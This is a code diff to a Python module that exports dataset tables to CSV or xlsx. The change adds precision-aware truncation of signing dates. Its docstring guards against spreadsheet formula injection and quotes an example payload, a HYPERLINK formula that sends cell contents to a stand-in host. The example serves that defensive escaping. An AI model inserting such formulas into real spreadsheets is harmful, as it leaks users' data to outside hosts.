@@ -10,7 +10,9 @@ One file (CSV) or sheet (xlsx) per table found in the folder; an absent table (`
 - list columns (`province_codes`, `parties`, `scope`, `signatories`, `event_ids` …) are joined
   with LIST_SEPARATOR, " | " (space, vertical bar, space): `ID-ST | ID-KS`. Split on it to get
   the list back; no extracted value contains it.
-- dates are ISO 8601 text: `2024-08-14`; run times `2024-08-14T10:00:00+00:00`.
+- dates are ISO 8601 text: `2024-08-14`; run times `2024-08-14T10:00:00+00:00`. A signing date
+  is written at its precision (`date_precision`): `2017` for a year, `2022-03` for a month,
+  `2022-03-05` for a day, so no spreadsheet reads "Maret 2022" as the 1st of March.
 - CSV is UTF-8 (no byte-order mark), comma-separated, CRLF line ends, quoted where needed.
 - no cell runs as a formula: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
   return (a title from the web could be `=HYPERLINK("http://x/?"&A1,"…")`) gets a leading
@@ -34,6 +36,8 @@ FORMATS = ("csv", "xlsx")
 WORKBOOK = "sepakat.xlsx"
 XLSX_CELL_MAX = 32_767  # Excel's limit on the characters of one cell
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula
+PRECISION_OF = {"event_date": "date_precision"}  # a date column and the column saying how much of it is known
+ISO_LENGTH = {"year": 4, "month": 7, "day": 10}
 
 
 def export(out: str | Path, dest_dir: str | Path, fmt: str = "csv") -> list[Path]:
@@ -73,6 +77,10 @@ def flatten(df: pd.DataFrame) -> pd.DataFrame:
             flat[col] = s.astype(object).where(s.notna(), None)
         else:
             flat[col] = s
+    for col, precision in PRECISION_OF.items():
+        if col in df.columns and precision in df.columns:
+            flat[col] = [None if d is None else d[:ISO_LENGTH.get(p, 10)] if isinstance(p, str) else d
+                         for d, p in zip(flat[col], df[precision].astype(object))]
     return flat
 
 
